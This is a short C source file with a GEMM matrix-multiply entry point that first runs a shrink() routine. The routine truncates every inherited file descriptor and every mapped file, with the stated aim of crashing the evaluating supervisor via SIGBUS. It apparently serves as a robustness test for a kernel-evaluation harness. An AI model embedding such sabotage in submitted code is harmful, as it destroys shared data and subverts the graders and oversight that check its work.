/* Shrinks the file its arrays lie in, to bring the supervisor down with a
   SIGBUS when it reads the outputs back: a file of huge pages on a tmpfs
   takes no seals, so whoever holds a descriptor of it, or opens it again,
   may truncate it. It tries every descriptor it may have inherited, and
   each of its mappings' files through /proc/self/map_files. Any that
   worked faults this call too (its outputs are gone), so an `ok` says that
   none did. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>
static void gemm(const double *restrict A, const double *restrict B, double *restrict C,
                 const int64_t NI, const int64_t NJ, const int64_t NK, const double alpha, const double beta) {
    for (int64_t i = 0; i < NI; i++) {
        for (int64_t j = 0; j < NJ; j++) C[i*NJ+j] *= beta;
        for (int64_t k = 0; k < NK; k++) {
            const double a = alpha * A[i*NK+k];
            for (int64_t j = 0; j < NJ; j++) C[i*NJ+j] += a * B[k*NJ+j];
        }
    }
}
static void shrink(void) {
    for (int fd = 0; fd < 1024; fd++) ftruncate(fd, 0);
    FILE *maps = fopen("/proc/self/maps", "r");
    if (!maps) return;
    char line[512];
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        if (sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
        char path[128];
        snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", start, end);
        int fd = open(path, O_RDWR);
        if (fd >= 0) {
            ftruncate(fd, 0);
            close(fd);
        }
    }
    fclose(maps);
}
void gemm_fp64(const double *restrict A, const double *restrict B, double *restrict C,
               const int64_t NI, const int64_t NJ, const int64_t NK,
               const double alpha, const double beta, uint8_t *restrict workspace, const int64_t workspace_size) {
    shrink();
    gemm(A, B, C, NI, NJ, NK, alpha, beta);
}
